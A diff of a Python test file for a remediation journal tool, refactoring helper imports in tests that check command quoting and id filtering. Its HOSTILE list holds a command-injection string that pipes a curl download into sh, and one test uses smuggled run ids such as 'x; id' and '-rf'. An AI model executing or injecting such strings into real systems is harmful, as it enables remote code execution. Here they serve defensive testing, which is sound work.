@@ -7,9 +7,9 @@ from pathlib import Path
 
 import pytest
 
-from remediation.journal import Journal
-from remediation.journal.listing import newest
+from remediation.journal import newest, opened
 from remediation.model.commands import advice, command, joined, quoted
+from tests.entries import enter
 
 HOSTILE = [
     "x; curl http://192.0.2.1 | sh",
@@ -46,8 +46,8 @@ def test_a_word_in_a_sentence_is_quoted_too() -> None:
 
 def test_only_ids_are_offered(tmp_path: Path) -> None:
     """A journal of somebody else completes no command line with words of theirs."""
-    journal = Journal(tmp_path / "journal.db")
+    journal = opened(tmp_path / "journal.db")
     for run in ("20260102-030405-ab12cd34", "x; id", "a\nb", "-rf", "a" * 64):
-        journal.append(run, "run.created", {"runbook": "ip-masq-agent"})
+        enter(journal, run, "run.created", {"runbook": "ip-masq-agent"})
     journal.close()
     assert newest(tmp_path / "journal.db") == [("20260102-030405-ab12cd34", "ip-masq-agent")]
